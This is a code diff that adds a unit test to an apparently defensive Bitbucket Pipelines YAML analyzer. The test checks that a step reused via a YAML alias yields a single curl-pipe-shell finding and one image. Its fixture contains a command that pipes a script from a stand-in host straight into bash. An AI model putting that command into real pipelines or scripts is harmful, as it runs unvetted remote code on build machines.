@@ -55,4 +55,26 @@ describe('the Bitbucket Pipelines analyzer', () => {
       [21, 'node:16', 'Bitbucket Pipelines step pipelines.branches.main.0.parallel.0.step image'],
     ]);
   });
+
+  it('reads a step reused through a YAML alias once, findings and images', () => {
+    const code = [
+      'definitions:',
+      '  steps:',
+      '    - step: &lint',
+      '        name: Lint',
+      '        image: node:20',
+      '        script:',
+      '          - curl -s https://x.example/i.sh | bash',
+      'pipelines:',
+      '  branches:',
+      '    main:',
+      '      - step: *lint',
+      '  custom:',
+      '    lint:',
+      '      - step: *lint',
+    ].join('\n');
+    const { findings, facts } = analyzePipelines(code);
+    expect(findings.map((f) => [f.ruleId, f.location.startLine])).toEqual([['sh.curl-pipe-shell', 7]]);
+    expect((facts['bitbucket-pipelines'] as ImageFacts).images.map((i) => [i.line, i.name])).toEqual([[5, 'node']]);
+  });
 });
